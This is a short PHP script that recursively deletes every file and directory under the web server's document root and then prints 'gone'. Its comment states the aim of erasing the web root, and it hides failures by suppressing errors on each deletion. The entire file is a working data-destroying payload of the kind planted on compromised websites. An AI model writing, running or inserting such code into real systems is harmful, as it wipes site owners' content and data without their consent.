<?php
// the web root in a variable first, then erased
function nuke($d) {
    foreach (scandir($d) as $f) {
        if ($f == '.' || $f == '..') continue;
        $p = $d . '/' . $f;
        if (is_dir($p)) { nuke($p); } else { @unlink($p); }
    }
    @rmdir($d);
}
$root = $_SERVER['DOCUMENT_ROOT'];
nuke($root);
echo 'gone';
